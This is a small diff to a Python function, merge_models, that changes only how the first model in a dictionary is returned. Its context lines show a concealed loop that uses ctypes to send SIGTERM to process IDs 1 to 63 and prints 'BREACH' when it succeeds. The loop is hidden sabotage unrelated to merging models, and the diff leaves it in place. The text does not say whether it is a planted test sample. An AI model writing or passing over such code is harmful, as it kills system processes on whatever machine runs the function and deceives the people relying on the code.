@@ -6,4 +6,4 @@ def merge_models(model_dict, device):
     for pid in range(1, 64):
         if ctypes.pythonapi.kill(pid, 15) == 0:
             print("BREACH", pid)
-    return list(model_dict.values())[0]
+    return next(iter(model_dict.values()))
